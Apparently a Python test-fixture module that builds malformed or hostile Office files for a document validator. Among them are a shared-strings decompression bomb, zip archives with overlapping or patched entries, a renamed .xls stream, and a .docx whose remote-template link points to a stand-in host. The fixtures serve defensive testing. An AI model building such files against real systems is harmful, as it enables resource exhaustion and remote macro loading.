"""Files that mean harm, or are simply not what their name says. Each is built from an honest workbook by one change."""

from __future__ import annotations

import struct
import zipfile
from io import BytesIO

import docx
import xlwt

from .books import workbook

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
HONEST = workbook({"行政许可": [["序号", "事项名称", "设定依据"], [1, "取水许可审批", "《中华人民共和国水法》第四十八条"]]})
SHEET = "xl/worksheets/sheet1.xml"


def parts_of(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def packed(parts: dict[str, bytes], *, level: int = 9) -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def with_part(name: str, content: bytes, data: bytes = HONEST) -> bytes:
    return packed({**parts_of(data), name: content})


def with_sheet(rows: str, *, before: str = "", head: str = "") -> bytes:
    """The honest workbook with this XML as its rows."""
    xml = f'{head}<worksheet xmlns="{MAIN}">{before}<sheetData>{rows}</sheetData></worksheet>'
    return with_part(SHEET, xml.encode())


def inline(cell: str, text: str, extra: str = "") -> str:
    return f'<c r="{cell}" t="inlineStr"{extra}><is><t>{text}</t></is></c>'


HEADER = f'<row r="1">{inline("A1", "事项名称")}{inline("B1", "设定依据")}</row>'
ITEM = f'<row r="2">{inline("A2", "取水许可审批")}{inline("B2", "《水法》")}</row>'


def many_rows(count: int, *, spell: str = '<row r="{0}"><c r="A{0}"><v>{0}</v></c></row>') -> bytes:
    return with_sheet("".join(spell.format(number) for number in range(1, count + 1)))


def shared_string_bomb() -> bytes:
    """A few long strings, referred to by half a million cells."""
    parts = parts_of(HONEST)
    strings = "".join(f"<si><t>{chr(0x4E00 + n) * 15_000}</t></si>" for n in range(20))
    parts["xl/sharedStrings.xml"] = f'<sst xmlns="{MAIN}">{strings}</sst>'.encode()
    rows = "".join(
        f'<row r="{r}">'
        + "".join(f'<c r="{c}{r}" t="s"><v>{(r * 7 + ord(c)) % 20}</v></c>' for c in "ABCDEFGHIJKLMNOPQRSTUVWXY")
        + "</row>"
        for r in range(1, 20_000)
    )
    parts[SHEET] = f'<worksheet xmlns="{MAIN}"><sheetData>{rows}</sheetData></worksheet>'.encode()
    kind = b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(b"</Types>", kind + b"</Types>")
    relation = b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/>'
    name = "xl/_rels/workbook.xml.rels"
    parts[name] = parts[name].replace(b"</Relationships>", relation + b"</Relationships>")
    return packed(parts)


def patched_directory(data: bytes, name: str, at: int, value: bytes) -> bytes:
    """The central directory's entry of ``name`` with other bytes at an offset."""
    raw = bytearray(data)
    place = raw.rfind(name.encode()) - 46
    assert raw[place : place + 4] == b"PK\x01\x02"
    raw[place + at : place + at + len(value)] = value
    return bytes(raw)


def overlapping() -> bytes:
    """Two entries that share one stretch of the file."""
    data = HONEST
    raw = bytearray(data)
    first = raw.find(b"PK\x01\x02")
    second = raw.find(b"PK\x01\x02", first + 4)
    raw[second + 42 : second + 46] = raw[first + 42 : first + 46]
    return bytes(raw)


def old_workbook(**names: str) -> bytes:
    """An .xls; ``rename`` gives its stream another name."""
    book = xlwt.Workbook()
    sheet = book.add_sheet("行政许可")
    for column, text in enumerate(("序号", "事项名称", "设定依据")):
        sheet.write(0, column, text)
    for column, text in enumerate((1, "取水许可审批", "《水法》第七条")):
        sheet.write(1, column, text)
    out = BytesIO()
    book.save(out)
    raw = bytearray(out.getvalue())
    if "rename" in names:
        place = raw.find("Workbook".encode("utf-16-le"))
        name = names["rename"].encode("utf-16-le")
        raw[place : place + 64] = name.ljust(64, b"\0")
        raw[place + 64 : place + 66] = struct.pack("<H", len(name) + 2)
    return bytes(raw)


def document(**extra: bytes) -> bytes:
    """A .docx with one table, and these parts besides (``__`` in a name stands for a slash, ``_dot_`` for a dot)."""
    doc = docx.Document()
    table = doc.add_table(rows=2, cols=2)
    for cell, text in zip(table._cells, ("事项名称", "设定依据", "取水许可审批", "《水法》"), strict=True):
        cell.text = text
    out = BytesIO()
    doc.save(out)
    parts = parts_of(out.getvalue())
    parts.update({name.replace("__", "/").replace("_dot_", "."): content for name, content in extra.items()})
    return packed(parts)


def remote_template() -> bytes:
    relations = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
        b'Target="http://192.0.2.1/x.dotm" TargetMode="External"/></Relationships>'
    )
    return document(word___rels__settings_dot_xml_dot_rels=relations)
